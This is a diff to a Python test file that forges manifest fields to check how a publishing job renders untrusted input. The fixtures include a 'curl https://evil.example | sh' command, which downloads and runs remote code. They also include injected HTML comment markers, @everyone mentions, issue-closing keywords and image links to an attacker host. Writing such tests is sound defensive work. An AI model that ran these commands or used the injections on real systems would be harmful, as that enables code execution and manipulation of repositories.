@@ -244,6 +244,7 @@ def test_the_page_says_what_the_base_commit_measures(jobs: Jobs, tmp_path: Path)
         manifest["info"]["metric_command"] = "curl https://evil.example | sh"
         manifest["info"]["goal"] = "fixes #1 @everyone <!-- autoresearch-ci:end -->"
         manifest["info"]["host"] = "a <b> @everyone ![x](https://evil.example/x.png)"
+        manifest["info"]["evidence"] = "closes #1 ![x](https://evil.example/y.png)"
 
     done = jobs.publish(jobs.forged(tmp_path, change))
     assert done.code == 0, done.told
